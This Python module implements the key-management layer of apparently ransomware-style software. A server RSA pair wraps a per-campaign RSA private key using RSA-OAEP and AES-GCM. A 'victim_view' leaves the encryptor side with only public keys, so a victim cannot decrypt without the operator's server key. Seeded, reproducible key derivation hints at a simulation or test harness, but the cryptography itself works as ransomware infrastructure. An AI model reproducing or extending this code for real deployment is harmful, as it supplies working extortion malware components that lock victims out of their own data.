"""Hybrid key hierarchy: server RSA pair, campaign RSA pair, wrapped per-file keys."""
from __future__ import annotations

import functools
import hashlib
from dataclasses import dataclass
from typing import Optional

from Crypto.Cipher import AES, PKCS1_OAEP
from Crypto.Hash import SHA256
from Crypto.PublicKey import RSA
from Crypto.PublicKey.RSA import RsaKey

from .drbg import Drbg
from .registry import CipherError

try:  # gmpy2 only speeds up modular exponentiation
    from gmpy2 import powmod as _powmod
except ImportError:  # pragma: no cover
    _powmod = pow

RSA_BITS = 2048
_HLEN = 32
_LHASH = hashlib.sha256(b"").digest()


class KeyUnwrapError(CipherError):
    pass


def _mgf1(seed: bytes, length: int) -> bytes:
    out = bytearray()
    counter = 0
    while len(out) < length:
        out += hashlib.sha256(seed + counter.to_bytes(4, "big")).digest()
        counter += 1
    return bytes(out[:length])


def _xor(a: bytes, b: bytes) -> bytes:
    return (int.from_bytes(a, "big") ^ int.from_bytes(b, "big")).to_bytes(len(a), "big")


@functools.lru_cache(maxsize=65536)
def _oaep_encrypt(n: int, e: int, message: bytes, seed: bytes) -> bytes:
    k = (n.bit_length() + 7) // 8
    if len(message) > k - 2 * _HLEN - 2:
        raise CipherError("message too long for RSA-OAEP")
    db = _LHASH + bytes(k - len(message) - 2 * _HLEN - 2) + b"\x01" + message
    masked_db = _xor(db, _mgf1(seed, k - _HLEN - 1))
    masked_seed = _xor(seed, _mgf1(masked_db, _HLEN))
    em = int.from_bytes(b"\x00" + masked_seed + masked_db, "big")
    return int(_powmod(em, e, n)).to_bytes(k, "big")


def oaep_wrap(public: RsaKey, message: bytes, seed: bytes) -> bytes:
    """RSA-OAEP (SHA-256, MGF1-SHA-256, empty label) with a caller-chosen seed.

    Standard padding, so the library's OAEP decryptor unwraps it; the explicit
    seed is what makes seeded campaigns reproducible.
    """
    if len(seed) != _HLEN:
        raise ValueError("OAEP seed must be 32 bytes")
    n, e = _public_ints(public)
    return _oaep_encrypt(n, e, bytes(message), bytes(seed))


_INTS: dict[int, tuple] = {}


def _public_ints(public: RsaKey) -> tuple[int, int]:
    # Converting the library's big integers costs more than the modexp itself.
    hit = _INTS.get(id(public))
    if hit is None or hit[0] is not public:
        hit = (public, int(public.n), int(public.e))
        if len(_INTS) > 64:
            _INTS.clear()
        _INTS[id(public)] = hit
    return hit[1], hit[2]


def oaep_unwrap(private: RsaKey, blob: bytes) -> bytes:
    if not private.has_private():
        raise KeyUnwrapError("unwrapping needs a private key")
    try:
        return PKCS1_OAEP.new(private, hashAlgo=SHA256).decrypt(blob)
    except (ValueError, TypeError) as exc:
        raise KeyUnwrapError(f"RSA-OAEP unwrap failed: {exc}") from None


def wrap_private_key(server_public: RsaKey, private: RsaKey, drbg: Drbg) -> bytes:
    """RSA-OAEP(k) || nonce || tag || AES-256-GCM_k(DER private key)."""
    k, nonce, seed = drbg.read(32), drbg.read(12), drbg.read(32)
    ct, tag = AES.new(k, AES.MODE_GCM, nonce=nonce).encrypt_and_digest(private.export_key("DER"))
    return oaep_wrap(server_public, k, seed) + nonce + tag + ct


def unwrap_private_key(server_private: RsaKey, blob: bytes) -> RsaKey:
    klen = (server_private.n.bit_length() + 7) // 8
    k = oaep_unwrap(server_private, blob[:klen])
    nonce, tag, ct = blob[klen:klen + 12], blob[klen + 12:klen + 28], blob[klen + 28:]
    try:
        der = AES.new(k, AES.MODE_GCM, nonce=nonce).decrypt_and_verify(ct, tag)
    except ValueError:
        raise KeyUnwrapError("wrapped campaign key failed authentication") from None
    return RSA.import_key(der)


@dataclass
class KeyHierarchy:
    server_public: RsaKey
    campaign_public: RsaKey
    campaign_private_wrapped: bytes
    server_private: Optional[RsaKey] = None
    campaign_private: Optional[RsaKey] = None

    def victim_view(self) -> "KeyHierarchy":
        """What the encryptor keeps: no server private, no campaign private."""
        return KeyHierarchy(self.server_public, self.campaign_public, self.campaign_private_wrapped)

    def unwrap_campaign(self) -> RsaKey:
        if self.campaign_private is not None:
            return self.campaign_private
        if self.server_private is None:
            raise KeyUnwrapError("server private key required")
        return unwrap_private_key(self.server_private, self.campaign_private_wrapped)


@functools.lru_cache(maxsize=32)
def derive_keys(seed: int) -> KeyHierarchy:
    """Deterministic hierarchy for a seed: server pair, campaign pair, wrapped campaign key."""
    server = RSA.generate(RSA_BITS, randfunc=Drbg(seed, "server-rsa").read)
    campaign = RSA.generate(RSA_BITS, randfunc=Drbg(seed, "campaign-rsa").read)
    wrapped = wrap_private_key(server.publickey(), campaign, Drbg(seed, "campaign-wrap"))
    return KeyHierarchy(server.publickey(), campaign.publickey(), wrapped, server, campaign)


def export_public(key: RsaKey) -> bytes:
    return key.publickey().export_key("DER")


def import_key(raw: bytes) -> RsaKey:
    try:
        return RSA.import_key(raw)
    except (ValueError, IndexError, TypeError) as exc:
        raise KeyUnwrapError(f"not an RSA key: {exc}") from None
